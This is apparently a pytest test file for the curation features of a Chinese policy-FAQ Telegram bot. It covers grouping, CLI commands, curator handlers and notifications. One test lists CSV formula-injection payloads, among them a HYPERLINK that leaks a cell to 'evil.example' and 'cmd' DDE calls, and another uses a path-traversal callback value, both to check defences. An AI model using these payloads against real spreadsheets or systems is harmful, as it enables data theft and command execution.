"""Curation: grouping missed questions, the `missed`/`stats` commands, answering a group
and then being answered, notifications, and the curator's Telegram handlers.

Every test that writes works on a copy of faq/, intents/ and data/ in tmp_path: the
project's own faq/ is never touched.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from telegram.error import Forbidden

from bot.cli.curation import missed, stats, terminal_log
from bot.config import Settings
from bot.curation.service import (
    CURATED_FILE,
    GROUP_AT,
    answer_group,
    missed_groups,
    similarity,
)
from bot.engine.answering import Engine, Reply
from bot.engine.textnorm import content
from bot.store.question_log import Store
from bot.store.records import QuestionRecord
from bot.telegram import curators as tg
from bot.telegram.callbacks import parse_callback
from bot.telegram.context import BotData

ROOT = Path(__file__).resolve().parents[1]
CURATOR, RESIDENT = 1001, 2002
TARGET = "ps-childcare-centre"
ONE_PARK = "gh-p-one-park-one-policy"  # 工业园区“一园一策”: what 公积金 was attached to
# Worded so that the knowledge base as shipped does not find them (小不点 is in no entry).
BABY = [
    "白天谁来管我家小不点",
    "谁管我家小不点白天",
    "白天谁来管我家小不点",
    "白天谁能管管我家小不点",
]
WORK = ["上班了小不点没人管", "上班以后小不点没人管"]
FUND = ["公积金怎么提取", "怎么提取公积金", "公积金提取流程"]


# --- fixtures -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def base_engine() -> Engine:
    """The engine on the project's own files, for tests that only read."""
    return Engine.load(ROOT)


@pytest.fixture
def root(tmp_path: Path, make_project: Callable[..., Path]) -> Path:
    """faq/ and data/ the test's own (the database and curated answers go in data/, an old
    faq/curated.yaml in faq/), intents/ shared."""
    return make_project("faq", "data", at=tmp_path / "project")


@pytest.fixture
def settings(root: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    db_path = root / "data" / "policybot.db"
    for name in ("POLICYBOT_RETENTION_DAYS", "POLICYBOT_USER_KEY_SECRET"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("POLICYBOT_ROOT", str(root))
    monkeypatch.setenv("POLICYBOT_DB", str(db_path))
    monkeypatch.setenv("POLICYBOT_CURATORS", str(CURATOR))
    return Settings.from_env()


@pytest.fixture
def store(settings: Settings) -> Iterator[Store]:
    store = Store(settings.db_path).open()
    yield store
    store.close()


def ask(
    store: Store,
    text: str,
    outcome: str = "miss",
    user: int | None = RESIDENT,
    notify: bool = False,
) -> str:
    """Log a question the way the Telegram handlers do; optionally tap 有答案时通知我."""
    reply = Reply(question=text, outcome=outcome, normalized=content(text), reason="low score")
    record = QuestionRecord.of(
        reply, normalize=content, channel="telegram", chat_kind="private", seconds=0.01
    )
    question_id = store.log_question(record, user_id=user)
    if notify and user is not None:
        store.request_notification(question_id=question_id, user_id=user, chat_id=user)
    return question_id


def run(*args: str) -> Any:
    command = stats if args[0] == "stats" else missed
    return CliRunner().invoke(command, list(args[1:] if args[0] == "stats" else args))


def listed(store: Store) -> list[dict]:
    """The open groups (what `missed list --json` prints, without the nearest entries)."""
    store.flush()
    return [g.summary() for g in missed_groups(store)]


# --- grouping -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("first", "second", "same"),
    [
        ("公积金怎么提取", "怎么提取公积金", True),
        ("公积金怎么提取", "公积金提取流程", True),
        ("公积金怎么提取", "住房公积金能取出来吗", True),
        ("社保怎么交", "社保怎么缴费", False),  # 57: close, but not the same words
        ("娃没人看", "孩子没人看", True),
        ("天气怎么样", "今天天气如何", True),
        ("谁帮我白天照看小娃娃", "白天谁能帮我照看娃娃", True),
        ("公积金怎么提取", "社保怎么交", False),
        ("公积金怎么提取", "社保怎么提取", False),
        ("坪山有没有停车场", "坪山有没有游泳池", False),
        ("坪山哪里可以打疫苗", "坪山哪里可以办护照", False),
        ("垃圾几点扔", "快递几点到", False),
    ],
)
def test_similarity(first: str, second: str, same: bool) -> None:
    assert (similarity(content(first), content(second)) >= GROUP_AT) is same


def test_groups_most_asked_first_with_stable_ids(store: Store, base_engine: Engine) -> None:
    fund = [ask(store, text) for text in FUND]
    ask(store, "天气怎么样")
    baby = [ask(store, text) for text in BABY]
    store.flush()
    groups = missed_groups(store, base_engine)
    assert [g.count for g in groups] == [4, 3, 1]
    first, second, _ = groups
    assert first.id == "g" + baby[0][:6] and second.id == "g" + fund[0][:6]
    assert first.examples == [BABY[0], BABY[1], BABY[3]]  # distinct, most asked first
    assert first.first_seen <= first.last_seen
    assert 1 <= len(first.nearest) <= 3
    assert all(n.entry_id in base_engine.kb.entries for n in first.nearest)
    ask(store, "公积金能取吗")  # later questions never move a group's id
    store.flush()
    again = {g.id: g.count for g in missed_groups(store, None)}
    assert again[first.id] == 4 and again[second.id] == 4


def test_a_none_vote_makes_a_question_missed(store: Store) -> None:
    clarified = ask(store, "养狗要办证吗", outcome="clarify")
    answered = ask(store, "六零行动是什么", outcome="answer")
    store.log_vote(question_id=clarified, user_id=RESIDENT, entry_id=None, vote="none")
    store.log_vote(question_id=answered, user_id=RESIDENT, entry_id="gh-term-26", vote="down")
    store.flush()
    assert [g.examples for g in missed_groups(store)] == [["养狗要办证吗"]]


# --- the command line -----------------------------------------------------------------------


@pytest.mark.slow
def test_missed_list_and_show(store: Store) -> None:
    for text in FUND:
        ask(store, text)
    store.flush()
    result = run("list", "--json")
    assert result.exit_code == 0, result.output
    (group,) = json.loads(result.stdout)
    assert group["count"] == 3 and group["examples"] == FUND
    assert group["first_seen"] <= group["last_seen"]
    assert 1 <= len(group["nearest"]) <= 3
    text = run("list")
    assert text.exit_code == 0 and group["id"] in text.output and "公积金怎么提取" in text.output
    shown = run("show", group["id"], "--json")
    assert [q["text"] for q in json.loads(shown.stdout)["questions"]] == FUND
    unknown = run("show", "g000000")
    assert unknown.exit_code == 1 and "no open group" in unknown.stderr


@pytest.mark.slow
def test_answer_with_an_existing_entry(
    store: Store, settings: Settings, base_engine: Engine
) -> None:
    assert all(base_engine.ask(t).entry_id != TARGET for t in BABY)
    for text in BABY:
        ask(store, text)
    (group,) = listed(store)
    # The engine does not even consider TARGET for these wordings: confirmed with --yes.
    result = run("answer", group["id"], "--entry", TARGET, "--yes")
    assert result.exit_code == 0, result.output
    curated = settings.curated_path
    assert curated.read_text(encoding="utf-8").startswith("# Answers curators gave")
    assert yaml.safe_load(curated.read_text())["phrasings"][TARGET] == [BABY[0], BABY[1], BABY[3]]
    fresh = Engine.load(settings.root, curated=curated)
    for text in BABY:
        answered = fresh.ask(text)
        assert (answered.outcome, answered.entry_id) == ("answer", TARGET), text
    assert listed(store) == []
    assert not list((settings.root / "faq").glob("generated-*.yaml.*"))


def _tree(directory: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(directory)): p.read_bytes() for p in directory.rglob("*") if p.is_file()
    }


def _cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """`policybot ARGS` as its own process, as `docker exec … policybot` runs it."""
    return subprocess.run(
        [sys.executable, "-m", "bot.cli.main", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **env},
    )


def _env(settings: Settings, **extra: str) -> dict[str, str]:
    return {
        "POLICYBOT_ROOT": str(settings.root),
        "POLICYBOT_DB": str(settings.db_path),
        "POLICYBOT_CURATED": "",
        **extra,
    }


@pytest.mark.slow
def test_curated_answers_live_next_to_the_database_and_faq_is_only_read(
    store: Store, settings: Settings
) -> None:
    """In Docker faq/ belongs to root and the bot's user cannot write it: curated answers
    go to the data directory (next to the database), and every command reads them there."""
    faq_before = _tree(settings.root / "faq")
    for text in BABY:
        ask(store, text)
    (group,) = listed(store)
    answered = _cli("missed", "answer", group["id"], "--entry", TARGET, "--yes", env=_env(settings))
    assert answered.returncode == 0, answered.stderr
    assert _tree(settings.root / "faq") == faq_before
    curated = settings.db_path.parent / CURATED_FILE
    assert yaml.safe_load(curated.read_text())["phrasings"][TARGET] == [BABY[0], BABY[1], BABY[3]]
    asked = _cli("ask", "--no-log", "--json", BABY[0], env=_env(settings))
    assert json.loads(asked.stdout)["entry_id"] == TARGET, asked.stderr
    # Elsewhere, when POLICYBOT_CURATED says so; `policybot check` validates it too.
    moved = settings.root.parent / "state" / "answers.yaml"
    moved.parent.mkdir()
    moved.write_text("phrasings:\n  no-such-entry: [随便问问]\n", encoding="utf-8")
    checked = _cli("check", env=_env(settings, POLICYBOT_CURATED=str(moved)))
    assert checked.returncode == 1 and "no-such-entry" in checked.stderr


@pytest.mark.slow
def test_a_curated_file_that_cannot_be_written_is_one_clear_line(
    store: Store, settings: Settings
) -> None:
    """`missed answer` where the curated file cannot be written (here its directory is a
    file, which stops root too): exit 1, one line saying what to do, no traceback, and
    the group is still open."""
    for text in BABY:
        ask(store, text)
    (group,) = listed(store)
    blocker = settings.root.parent / "not-a-directory"
    blocker.write_text("", encoding="utf-8")
    env = _env(settings, POLICYBOT_CURATED=str(blocker / CURATED_FILE))
    failed = _cli("missed", "answer", group["id"], "--entry", TARGET, "--yes", env=env)
    assert failed.returncode == 1, failed.stdout + failed.stderr
    assert "Traceback" not in failed.stderr
    first = failed.stderr.splitlines()[0]
    assert first.startswith("error: cannot write") and "POLICYBOT_CURATED" in first, first
    assert [g["id"] for g in listed(store)] == [group["id"]]


@pytest.mark.slow
def test_an_old_faq_curated_file_is_still_read_and_left_as_it_was(
    store: Store, settings: Settings, base_engine: Engine
) -> None:
    """A faq/curated.yaml from before keeps answering; new answers go to the new file."""
    legacy = settings.root / "faq" / CURATED_FILE
    legacy.write_text(f"phrasings:\n  {TARGET}: [{WORK[0]}]\n", encoding="utf-8")
    before = legacy.read_bytes()
    assert base_engine.ask(WORK[0]).entry_id != TARGET
    for text in BABY:
        ask(store, text)
    (group,) = listed(store)
    assert run("answer", group["id"], "--entry", TARGET, "--yes").exit_code == 0
    assert legacy.read_bytes() == before
    fresh = Engine.load(settings.root, curated=settings.curated_path)
    assert fresh.ask(WORK[0]).entry_id == TARGET and fresh.ask(BABY[0]).entry_id == TARGET


@pytest.mark.slow
def test_an_unrelated_entry_is_shown_and_attached_only_once_confirmed(
    store: Store, settings: Settings, base_engine: Engine
) -> None:
    """公积金 (which no report covers) to 一园一策: the entry's answer is printed, and
    nothing is attached without a yes (--yes or at the prompt)."""
    for text in [*FUND, "今天天气怎么样"]:
        ask(store, text)
    fund, weather = (g["id"] for g in listed(store))
    answer_of = base_engine.kb.entries[ONE_PARK].answer
    for stdin in ("", "n\n"):  # no one to answer, or a no
        refused = CliRunner().invoke(missed, ["answer", fund, "--entry", ONE_PARK], input=stdin)
        assert refused.exit_code == 1, refused.output
        assert answer_of in refused.stdout and "share little" in refused.stdout
        assert "nothing attached" in refused.stderr
        assert [g["id"] for g in listed(store)] == [fund, weather]
        assert not settings.curated_path.exists()
    accepted = CliRunner().invoke(missed, ["answer", fund, "--entry", ONE_PARK], input="y\n")
    assert accepted.exit_code == 0, accepted.output
    assert answer_of in accepted.stdout
    forced = run("answer", weather, "--entry", ONE_PARK, "--yes")
    assert forced.exit_code == 0, forced.output
    assert answer_of in forced.stdout
    assert listed(store) == []


@pytest.mark.slow
def test_a_fitting_entry_is_shown_and_attached_without_a_question(
    store: Store, settings: Settings, base_engine: Engine
) -> None:
    """A question the engine itself finds the entry for (a resident tapped 都不是 on it)."""
    asked = ask(store, "孩子没地方托管", outcome="answer")
    store.log_vote(question_id=asked, user_id=RESIDENT, entry_id=None, vote="none")
    (group,) = listed(store)
    result = CliRunner().invoke(missed, ["answer", group["id"], "--entry", TARGET], input="")
    assert result.exit_code == 0, result.output
    assert base_engine.kb.entries[TARGET].answer in result.stdout
    assert "share little" not in result.stdout and listed(store) == []


@pytest.mark.slow
def test_answer_with_a_new_entry_must_quote_the_report(
    store: Store, settings: Settings, base_engine: Engine
) -> None:
    quote_of = base_engine.kb.entries[TARGET]
    for text in WORK:
        ask(store, text)
    (group,) = listed(store)
    curated = settings.curated_path
    curated.write_text("# kept as it was\nphrasings: {}\n", encoding="utf-8")
    before = curated.read_text(encoding="utf-8")
    source = f"{quote_of.report}:{quote_of.section}"
    invented = run(
        "answer", group["id"], "--new", "--question", "上班了孩子谁来带?",
        "--answer", "街道托育中心每天早上八点开门。", "--source", source,
    )  # fmt: skip
    assert invented.exit_code == 1
    assert "verbatim" in invented.stderr and CURATED_FILE in invented.stderr
    assert curated.read_text(encoding="utf-8") == before
    no_source = run("answer", group["id"], "--new", "--question", "q", "--answer", "a")
    assert no_source.exit_code == 2 and "--source" in no_source.output
    quote = quote_of.answer.split("。")[1]
    result = run(
        "answer", group["id"], "--new", "--question", "上班了孩子谁来带?",
        "--answer", quote, "--source", source, "--id", "curated-work-childcare",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    fresh = Engine.load(settings.root, curated=curated)
    assert fresh.kb.entries["curated-work-childcare"].answer == quote
    for text in WORK:
        assert fresh.ask(text).entry_id == "curated-work-childcare", text
    assert listed(store) == []


@pytest.mark.slow
def test_ignore_and_export(store: Store, settings: Settings, tmp_path: Path) -> None:
    for text in [*FUND, "天气怎么样"]:
        ask(store, text)
    groups = listed(store)
    exported = tmp_path / "missed.csv"
    result = run("export", "--csv", str(exported))
    assert result.exit_code == 0, result.output
    with exported.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["text"] for r in rows] == [*FUND, "天气怎么样"]
    assert rows[0]["group"] == groups[0]["id"] and rows[0]["group_count"] == "3"
    assert run("ignore", groups[1]["id"]).exit_code == 0
    assert [g["id"] for g in listed(store)] == [groups[0]["id"]]
    again = run("answer", groups[1]["id"], "--entry", TARGET)
    assert again.exit_code == 1 and "already ignored" in again.stderr


# What a resident may type to make a spreadsheet run something (OWASP's CSV injection list:
# a cell starting with = + - @, a tab or a carriage return is read as a formula).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里查看托育政策")',
    "=cmd|' /C calc'!A0",
    "+1+1 托育怎么办",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 托育",
    "\r=1+1 托育",
]


def test_export_neutralises_formulas(store: Store, tmp_path: Path) -> None:
    """Every cell a spreadsheet would read as a formula starts with a single quote."""
    for text in [*FORMULAS, "公积金怎么提取"]:
        ask(store, text)
    store.flush()
    with store.reader() as db:
        stored = [row["text"] for row in db.query("SELECT text FROM questions ORDER BY rowid")]
    exported = tmp_path / "missed.csv"
    assert run("export", "--csv", str(exported)).exit_code == 0
    with exported.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    texts = {row["text"] for row in rows}
    assert len(texts) == len(stored)
    for text in stored[: len(FORMULAS)]:
        assert text[0] in "=+-@\t\r", repr(text)  # stored as typed …
        assert "'" + text in texts  # … and exported as text, nothing else changed
    assert "公积金怎么提取" in texts  # an ordinary question is left alone
    for row in rows:
        for column, value in row.items():
            assert not value or value[0] not in "=+-@\t\r", (column, value)


@pytest.mark.slow
def test_stats(store: Store) -> None:
    answered = ask(store, "六零行动是什么", outcome="answer")
    terminal = Reply(question="托育", outcome="answer", entry_id=TARGET, normalized="托育")
    record = QuestionRecord.of(
        terminal, normalize=content, channel="terminal", chat_kind="terminal", seconds=0.01
    )
    store.log_question(record, user_id=None)
    ask(store, "养狗要办证吗", outcome="clarify")
    for text in FUND:
        ask(store, text)
    store.log_vote(question_id=answered, user_id=RESIDENT, entry_id=TARGET, vote="up")
    store.flush()
    result = run("stats", "--json")
    assert result.exit_code == 0, result.output
    figures = json.loads(result.stdout)
    assert figures["questions"] == 6
    assert (figures["answer_rate"], figures["clarify_rate"], figures["miss_rate"]) == (
        0.3333,
        0.1667,
        0.5,
    )
    assert figures["channels"] == {"telegram": 5, "terminal": 1}
    assert figures["per_day"][0]["questions"] == 6
    assert figures["top_entries"][0]["entry_id"] == TARGET
    assert figures["missed_groups"][0]["count"] == 3
    assert figures["votes"] == [
        {
            "entry_id": TARGET,
            "up": 1,
            "down": 0,
            "none": 0,
            "question": figures["votes"][0]["question"],
        }
    ]
    text = run("stats")
    assert text.exit_code == 0 and "answered: 33.3%" in text.output


def test_terminal_log(settings: Settings) -> None:
    reply = Reply(question="我的电话13812345678", outcome="miss", normalized="x")
    with terminal_log(settings, enabled=False) as log_reply:
        log_reply(reply, 0.01)
    assert not settings.db_path.exists()
    with terminal_log(settings) as log_reply:
        log_reply(reply, 0.01)
    with Store(settings.db_path) as store, store.reader() as db:
        (row,) = db["questions"].rows
    assert (row["channel"], row["chat_kind"], row["user_key"]) == ("terminal", "terminal", None)
    assert row["text"] == "我的电话[手机号]"


# --- Telegram: fakes ------------------------------------------------------------------------


class FakeMessage:
    def __init__(self) -> None:
        self.replies: list[tuple[str, dict]] = []
        self.text_html = "group"

    async def reply_text(self, text: str, **kwargs: Any) -> None:
        self.replies.append((text, kwargs))


class FakeQuery:
    def __init__(self, data: str, message: FakeMessage) -> None:
        self.data, self.message = data, message
        self.answers: list[tuple[str | None, bool]] = []
        self.edits: list[str] = []

    async def answer(self, text: str | None = None, show_alert: bool = False) -> None:
        self.answers.append((text, show_alert))

    async def edit_message_text(self, text: str, **kwargs: Any) -> None:
        self.edits.append(text)


class FakeBot:
    def __init__(self, blocked: frozenset[int] = frozenset()) -> None:
        self.sent: list[tuple[int, str]] = []
        self.blocked = blocked

    async def send_message(self, chat_id: int, text: str, **kwargs: Any) -> None:
        if chat_id in self.blocked:
            raise Forbidden("bot was blocked by the user")
        self.sent.append((chat_id, text))


def update(user: int, data: str | None = None) -> Any:
    message = FakeMessage()
    query = FakeQuery(data, message) if data is not None else None
    return SimpleNamespace(
        effective_user=SimpleNamespace(id=user, language_code=None),
        effective_chat=SimpleNamespace(id=user, type="private"),
        effective_message=message,
        callback_query=query,
    )


def context(settings: Settings, store: Store, engine: Engine, bot: FakeBot | None = None) -> Any:
    bot_data = BotData.of(engine, settings, store)
    return SimpleNamespace(bot_data=bot_data, bot=bot or FakeBot())


def command(settings: Settings, name: str) -> Any:
    (found,) = [h for h in tg.curator_handlers() if name in getattr(h, "commands", ())]
    return found.callback


def button_handler(settings: Settings) -> Any:
    from telegram.ext import CallbackQueryHandler

    (found,) = [h for h in tg.curator_handlers() if isinstance(h, CallbackQueryHandler)]
    assert found.pattern.match("m:i:g123456")
    return found.callback


# --- Telegram: curators ---------------------------------------------------------------------


async def test_missed_is_for_curators_only(store: Store, settings: Settings, base_engine: Engine):
    for text in BABY:
        ask(store, text)
    store.flush()
    on_missed = command(settings, "missed")
    resident = update(RESIDENT)
    await on_missed(resident, context(settings, store, base_engine))
    assert resident.effective_message.replies[0][0] == tg.REFUSAL
    curator = update(CURATOR)
    await on_missed(curator, context(settings, store, base_engine))
    _, (text, kwargs) = curator.effective_message.replies
    assert BABY[1] in text
    buttons = [b for row in kwargs["reply_markup"].inline_keyboard for b in row]
    assert buttons[-1].text == "忽略" and buttons[0].text.startswith("→ ")
    for button in buttons:
        assert len(button.callback_data.encode()) <= 64
        tapped = parse_callback(button.callback_data)
        assert tapped is not None and tapped.kind in tg.CURATOR_STEPS


@pytest.mark.slow
async def test_button_answers_the_group_and_notifies_each_asker_once(
    store: Store, settings: Settings, base_engine: Engine
) -> None:
    engine = base_engine
    ask(store, BABY[0], notify=True)
    ask(store, BABY[1], user=3003, notify=True)
    ask(store, BABY[1], user=3003, notify=True)  # asked twice: told twice, once each
    ask(store, BABY[3], user=4004, notify=True)  # has blocked the bot since
    store.flush()
    (group,) = missed_groups(store)
    on_button = button_handler(settings)
    bot = FakeBot(blocked=frozenset({4004}))
    ctx = context(settings, store, engine, bot)

    refused = update(RESIDENT, f"m:a:{group.id}:{TARGET}")
    await on_button(refused, ctx)
    assert refused.callback_query.answers == [(tg.REFUSAL, True)]
    assert missed_groups(store) and ctx.bot_data.engine is engine

    tampered = update(CURATOR, f"m:a:{group.id}:../../etc")
    await on_button(tampered, ctx)
    assert tampered.callback_query.answers[0][0] == "这个按钮无效。"

    preview = update(CURATOR, f"m:a:{group.id}:{TARGET}")
    await on_button(preview, ctx)
    ((text, kwargs),) = preview.effective_message.replies
    assert engine.kb.entries[TARGET].answer in text and missed_groups(store)
    confirm = kwargs["reply_markup"].inline_keyboard[0][0].callback_data
    assert confirm == f"m:c:{group.id}:{TARGET}"

    tap = update(CURATOR, confirm)
    await on_button(tap, ctx)
    assert "已归入" in tap.callback_query.edits[0]
    assert ctx.bot_data.engine is not engine  # the validated knowledge is live
    assert ctx.bot_data.engine.ask(BABY[0]).entry_id == TARGET
    assert missed_groups(store) == []
    assert sorted(chat for chat, _ in bot.sent) == [RESIDENT, 3003, 3003]
    assert all("现在有答案了" in text for _, text in bot.sent)

    await tg.notify_job(ctx)  # the job runs again: nothing is sent twice
    store.flush()
    await tg.notify_job(ctx)
    assert len(bot.sent) == 3
    with Store(settings.db_path) as reopened:  # nor after a restart
        assert reopened.pending_notifications() == []
        with reopened.reader() as db:
            # Sent or undeliverable, no chat id is kept any longer.
            assert [r["chat_id"] for r in db["notifications"].rows] == [None] * 4


@pytest.mark.slow
async def test_notification_for_a_new_entry_waits_for_reload(
    store: Store, settings: Settings, base_engine: Engine
) -> None:
    engine = base_engine  # loaded before the new entry existed
    for text in WORK:
        ask(store, text, notify=True)
    store.flush()
    (group,) = missed_groups(store)
    quote_of = engine.kb.entries[TARGET]
    answer_group(
        settings.root,
        store,
        group.id,
        curated=settings.curated_path,
        new=tg_new_entry(quote_of.answer.split("。")[1], quote_of.report, quote_of.section),
    )
    bot = FakeBot()
    ctx = context(settings, store, engine, bot)
    await tg.notify_job(ctx)
    assert bot.sent == []  # the running engine does not know the entry yet
    await command(settings, "reload")(update(CURATOR), ctx)
    assert sorted(chat for chat, _ in bot.sent) == [RESIDENT, RESIDENT]


def tg_new_entry(answer: str, report: str, section: str) -> Any:
    from bot.curation.service import NewEntry

    return NewEntry(question="上班了孩子谁来带?", answer=answer, report=report, section=section)


@pytest.mark.slow
async def test_reload_with_a_broken_file_keeps_the_old_engine(
    store: Store, settings: Settings, base_engine: Engine
) -> None:
    engine = base_engine
    broken = settings.root / "faq" / "broken.yaml"
    broken.write_text(
        "street: pingshan\nreport: pingshan-2020\nentries:\n"
        "  - id: ps-broken\n    question: 坏了吗\n    answer: 这句话报告里没有\n"
        '    section: "3.4"\n    "<oops>": 1\n',
        encoding="utf-8",
    )
    reload = command(settings, "reload")
    ctx = context(settings, store, engine)
    resident = update(RESIDENT)
    await reload(resident, ctx)
    assert resident.effective_message.replies[0][0] == tg.REFUSAL
    curator = update(CURATOR)
    await reload(curator, ctx)
    assert ctx.bot_data.engine is engine
    ((text, kwargs),) = curator.effective_message.replies
    assert "2 个问题" in text and kwargs["parse_mode"] == "HTML"
    assert "faq/broken.yaml:4: ps-broken: unknown key &#x27;&lt;oops&gt;&#x27;" in text
    assert "answer is not a verbatim quote" in text
    broken.unlink()
    await reload(curator, ctx)
    assert ctx.bot_data.engine is not engine
    assert "已重新加载" in curator.effective_message.replies[-1][0]


async def test_ignore_button(store: Store, settings: Settings, base_engine: Engine) -> None:
    for text in FUND:
        ask(store, text)
    store.flush()
    (group,) = missed_groups(store)
    tap = update(CURATOR, f"m:i:{group.id}")
    await button_handler(settings)(tap, context(settings, store, base_engine))
    assert "已忽略" in tap.callback_query.edits[0]
    assert missed_groups(store) == []
    assert not settings.curated_path.exists()


@pytest.mark.parametrize(
    ("asked", "phrasing"),
    [
        ("谁帮我白天照看小娃娃", "谁帮我白天照看小娃娃"),
        ("我电话[手机号],谁帮我照看娃娃", "我电话 谁帮我照看娃娃"),
        ("发到[邮箱]。", "发到"),
    ],
)
def test_placeholders_never_become_phrasings(asked: str, phrasing: str) -> None:
    from bot.curation.answering import phrasing_of

    assert phrasing_of(asked) == phrasing
